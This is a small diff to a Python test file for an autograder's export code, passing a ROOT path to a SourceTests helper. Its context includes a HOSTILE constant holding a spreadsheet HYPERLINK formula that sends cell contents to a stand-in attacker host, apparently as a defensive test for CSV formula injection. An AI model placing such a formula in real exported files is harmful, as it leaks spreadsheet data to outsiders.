@@ -17,6 +17,7 @@ import pytest
 
 from autograder import export
 from autograder.pipeline.source_tests import SourceTests
+from conftest import ROOT
 from autograder.pipeline.write_results import csv_text
 from autograder.results import GRADES_COLUMNS
 
@@ -25,7 +26,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def _source_points():
-    st = SourceTests()
+    st = SourceTests(ROOT)
     tests = [(nb, t.grade_id, t.points) for nb in st.notebooks() for t in st.tests(nb)]
     manual = [(nb, m.grade_id, m.points) for nb in st.notebooks() for m in st.manual(nb)]
     return tests, manual
